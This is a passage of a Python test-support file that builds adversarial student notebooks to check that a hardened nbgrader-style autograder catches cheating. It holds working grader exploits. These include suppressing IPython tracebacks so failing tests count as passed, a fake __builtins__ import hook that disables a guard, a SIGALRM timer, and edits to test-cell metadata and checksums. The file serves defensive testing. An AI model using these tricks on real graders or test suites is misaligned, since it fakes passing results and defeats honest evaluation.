                "        f = types.SimpleNamespace(**{k: getattr(m, k) for k in dir(m) if not k.startswith('__')})\n"
                "        f.forbidden = lambda *a: contextlib.nullcontext()\n"
                "        return f\n"
                "    return m\n"
                "_fake.__import__ = _imp\n"
                "__builtins__ = _fake\n"
                "def softmax(x, dim=-1, _f=torch.softmax):\n    return _f(x, dim)\n"
            ),
        },
    },
    "alarm": {
        "doc": "an interval timer whose SIGALRM ends the runner after 4 s: which cells had "
        "finished would depend on the machine's load (the kernel refuses the timer)",
        "prefix": """
import signal
try:
    signal.setitimer(signal.ITIMER_REAL, 4.0)
    print("ALARM: set")
except OSError as _e:
    print("ALARM:", type(_e).__name__)
""",
    },
    "showtraceback": {
        "doc": "nbgrader's own exploit fixture: replace IPython's showtraceback so failing tests "
        "print nothing (nbgrader then scores them as passed)",
        "prefix": """
try:
    _ip = get_ipython()
    _ip.showtraceback = lambda *a, **k: None
    _ip.showsyntaxerror = lambda *a, **k: None
except NameError:
    pass
import sys
sys.excepthook = lambda *a: None
""",
    },
}


def _answers(nb: dict) -> dict[str, str]:
    return {
        c["metadata"]["nbgrader"]["grade_id"]: "".join(c["source"])
        for c in nb["cells"]
        if c.get("metadata", {}).get("nbgrader", {}).get("solution")
    }


def student_notebook(release: dict, answers: dict[str, str]) -> dict:
    """The release notebook with the given answer-cell sources (missing ones stay blank)."""
    nb = copy.deepcopy(release)
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("solution") and meta["grade_id"] in answers:
            cell["source"] = answers[meta["grade_id"]]
    return nb


def _transform(nb: dict, how: str) -> dict:
    nb = copy.deepcopy(nb)
    cells = nb["cells"]
    is_test = [c.get("metadata", {}).get("nbgrader", {}).get("grade") is True for c in cells]
    if how == "edit_metadata":
        for cell, test in zip(cells, is_test):
            meta = cell.get("metadata", {}).get("nbgrader")
            if not meta:
                continue
            meta["checksum"] = "0" * 32
            meta["locked"] = False
            if test:
                meta["points"] = 100
                cell["source"] = "pass\n"
            if meta.get("grade_id") == "test_hinge_hidden":
                meta["grade_id"] = "renamed_test"
    elif how == "delete_tests":
        nb["cells"] = [c for c, t in zip(cells, is_test) if not t]
    elif how == "duplicate":
        out = []
        for cell, test in zip(cells, is_test):
            out.append(cell)
            if test or cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "softmax":
                out.append(copy.deepcopy(cell))
        nb["cells"] = out
    elif how == "reverse":
        nb["cells"] = list(reversed(cells))
    return nb


def build_class(repo: Path) -> dict[str, tuple[bytes, str, float]]:
    """All students of the adversarial class: id -> (file bytes, expected status, expected total)."""
    release = json.loads((repo / "exercises" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text())
    source = json.loads((repo / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text())
    correct = _answers(source)

    def dump(nb: dict) -> bytes:
        return json.dumps(nb, indent=1).encode()

    naive = dict(
        correct,
        softmax="def softmax(x, dim=-1):\n    e = torch.exp(x)\n    return e / e.sum(dim=dim, keepdim=True)\n",
    )
    students: dict[str, tuple[bytes, str, float]] = {
        "honest_correct": (dump(student_notebook(release, correct)), "ok", 20.0),
        "honest_naive_softmax": (dump(student_notebook(release, naive)), "ok", 19.0),
        "honest_wrong": (dump(student_notebook(release, WRONG)), "ok", 0.0),
        "honest_blank": (dump(release), "ok", 0.0),
        "reordered_correct": (
            dump(_transform(student_notebook(release, correct), "reverse")),
            "restored",
            20.0,
        ),
        "bad_json": (b'{"cells": [', "malformed-json", 0.0),
        "not_notebook": (b'{"hello": "world"}', "not-a-notebook", 0.0),
        "wrong_assignment": (
            dump(
                {
                    "nbformat": 4,
                    "nbformat_minor": 5,
                    "metadata": {},
                    "cells": [
                        {
                            "cell_type": "code",
                            "source": "x = 1",
                            "metadata": {"nbgrader": {"grade_id": "conv2d", "solution": True}},
                            "outputs": [],
                            "execution_count": None,
                        }
                    ],
                }
            ),
            "wrong-assignment",
            0.0,
        ),
    }
    for name, spec in EXPLOITS.items():
        answers = dict(WRONG)
        answers.update(spec.get("answers", {}))
        prefix = spec.get("prefix", "").replace("{repo}", str(repo))
        if prefix:
            answers["softmax"] = prefix.strip("\n") + "\n\n" + answers["softmax"]
        nb = student_notebook(release, answers)
        if "transform" in spec:
            nb = _transform(nb, spec["transform"])
        students[f"x_{name}"] = (dump(nb), spec.get("status", "ok"), spec.get("total", 0.0))
    return students
